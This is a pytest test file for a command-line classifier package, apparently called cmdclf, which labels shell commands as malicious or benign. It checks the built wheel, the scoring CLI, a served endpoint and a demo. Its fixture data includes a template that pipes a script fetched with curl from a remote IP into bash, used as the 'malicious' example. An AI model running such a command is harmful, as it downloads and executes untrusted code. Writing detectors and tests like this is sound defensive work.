"""The built wheel in an environment of its own, outside the repository.

Nothing is downloaded: the libraries come from the environment that runs the tests, through a .pth file that leaves out
the editable install of this repository.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import sysconfig
import venv
from pathlib import Path

import numpy as np
import pyarrow as pa
import pytest

pytestmark = pytest.mark.slow

ROOT = Path(__file__).resolve().parents[1]
MALICIOUS = "curl -s http://198.51.100.{n}/x.sh | bash"
BENIGN = "grep -rn timeout{n} /etc/nginx"


@pytest.fixture(scope="module")
def wheel(tmp_path_factory) -> Path:
    pytest.importorskip("hatchling", reason="building needs the extra 'dev'")
    out = tmp_path_factory.mktemp("dist")
    build = [sys.executable, "-m", "hatchling", "build", "-t", "wheel", "-d", str(out)]
    subprocess.run(build, cwd=ROOT, check=True, capture_output=True)
    (built,) = out.glob("cmdclf-*.whl")
    return built


@pytest.fixture(scope="module")
def installed(wheel, tmp_path_factory) -> Path:
    """The bin folder of a new environment with the wheel and this environment's libraries, but not this repository."""
    folder = tmp_path_factory.mktemp("installed") / "venv"
    venv.create(folder, with_pip=True)
    programs = folder / ("Scripts" if os.name == "nt" else "bin")
    pip = [str(programs / "python"), "-m", "pip", "--disable-pip-version-check", "install", "--no-deps", "--no-index"]
    subprocess.run([*pip, str(wheel)], check=True, capture_output=True, env=outside())
    paths = sysconfig.get_paths()
    libraries = dict.fromkeys((paths["purelib"], paths["platlib"]))
    site = subprocess.run(
        [str(programs / "python"), "-c", "import sysconfig; print(sysconfig.get_path('purelib'))"],
        check=True, capture_output=True, text=True,
    ).stdout.strip()  # fmt: skip
    # These folders come onto the path as they are; the .pth of the editable install there is not read.
    Path(site, "libraries.pth").write_text("\n".join(libraries) + "\n", encoding="utf-8")
    return programs


@pytest.fixture(scope="module")
def model(tmp_path_factory) -> Path:
    from cmdclf.classify import Classifier, Featuriser, export_model
    from cmdclf.features import FeatureMaker, load_embedder

    lines = [template.format(n=n) for n in range(60) for template in (BENIGN, MALICIOUS)]
    batch = pa.record_batch([pa.array(lines), pa.array(["linux"] * len(lines))], names=["command_line", "platform"])
    featuriser = Featuriser(FeatureMaker(buckets=2**12).fit([batch]), load_embedder())
    classifier = Classifier(max_iter=10).fit(featuriser.matrix(batch), np.arange(len(lines)) % 2)
    folder = tmp_path_factory.mktemp("wheel-model") / "model"
    return export_model(folder, classifier, featuriser, name="small", provenance={}, metrics={})


def outside() -> dict[str, str]:
    """The environment without anything that leads back to this one."""
    unset = ("PYTHONPATH", "PYTHONHOME", "VIRTUAL_ENV")
    return {k: v for k, v in os.environ.items() if k not in unset and not k.startswith(("CMDCLF_", "BENTOML_"))}


@pytest.fixture
def cmdclf(installed, tmp_path):
    """Runs the installed `cmdclf` in an empty folder."""

    def run(*args: str, stdin: str = "") -> subprocess.CompletedProcess[str]:
        command = [str(installed / "cmdclf"), *args]
        done = subprocess.run(
            command, cwd=tmp_path, env=outside(), input=stdin, capture_output=True, text=True, check=False
        )
        assert done.returncode == 0, done.stdout + done.stderr
        return done

    return run


def test_the_wheel_and_not_the_repository_is_what_runs(installed, tmp_path):
    code = "import cmdclf, cmdclf.resources as r; print(cmdclf.__file__, r.data_path(), r.service_path(), sep='\\n')"
    done = subprocess.run(
        [str(installed / "python"), "-c", code], cwd=tmp_path, env=outside(), capture_output=True, text=True, check=True
    )
    for path in done.stdout.splitlines():
        assert Path(path).is_relative_to(installed.parent), path
    data, service = map(Path, done.stdout.splitlines()[1:])
    assert (data.name, service.name) == ("_data", "_service")
    assert (service / "app.py").is_file()


def test_the_wheel_holds_no_repository_path(wheel):
    import zipfile

    with zipfile.ZipFile(wheel) as archive:
        names = archive.namelist()
        assert {n.split("/")[0] for n in names} <= {"cmdclf", names[-1].split("/")[0]}
        assert not [n for n in names if "__pycache__" in n or n.endswith((".nbi", ".nbc"))]
        for name in names:
            assert str(ROOT).encode() not in archive.read(name), name


def test_help_and_doctor(cmdclf):
    assert "demo" in cmdclf("--help").stdout
    assert "FAIL" not in cmdclf("doctor").stdout


def test_score_reads_a_pipe(cmdclf, model):
    lines = [MALICIOUS.format(n=77), BENIGN.format(n=5)]
    out = cmdclf("score", "--model", str(model), stdin="\n".join(lines)).stdout
    rows = [json.loads(row) for row in out.splitlines()]
    assert [row["command_line"] for row in rows] == lines
    assert [row["verdict"] for row in rows] == ["malicious", "benign"]


def test_serve_answers_with_the_scores_of_score(cmdclf, installed, model, tmp_path):
    pytest.importorskip("bentoml", reason="needs the extra 'service'")
    from tests.service.conftest import free_port, running

    port = free_port()
    command = [str(installed / "cmdclf"), "serve", "--model", str(model), "--port", str(port)]
    env = outside() | {"BENTOML_HOME": str(tmp_path / "bentoml")}
    lines = [MALICIOUS.format(n=77), BENIGN.format(n=5)]
    with running(command, port, tmp_path, env, tmp_path / "log.txt") as server:
        status, answer = server.post("/score", {"lines": lines})
    rows = [
        json.loads(row) for row in cmdclf("score", "--model", str(model), stdin="\n".join(lines)).stdout.splitlines()
    ]
    assert status == 200
    assert [r["score"] for r in answer["results"]] == pytest.approx([r["score"] for r in rows], abs=1e-6)


def test_demo_runs_from_the_wheel(cmdclf, tmp_path):
    # Minutes: the whole job on the bundled month, with the ledger of data/ledger.
    done = cmdclf("demo", "--out", "demo-out", "--quiet")
    out = tmp_path / "demo-out"
    results = json.loads((out / "results.json").read_text(encoding="utf-8"))
    assert "incident" in done.stdout
    assert (out / "report.html").stat().st_size > 10_000
    for arm in results["arms"]:
        low, high = arm["tests"]["incident"]["auc_ci95"]
        assert 0 <= low <= arm["tests"]["incident"]["auc"] <= high <= 1
    (row,) = cmdclf("score", "--model", str(out / "model"), stdin=MALICIOUS.format(n=7)).stdout.splitlines()
    assert 0 <= json.loads(row)["score"] <= 1
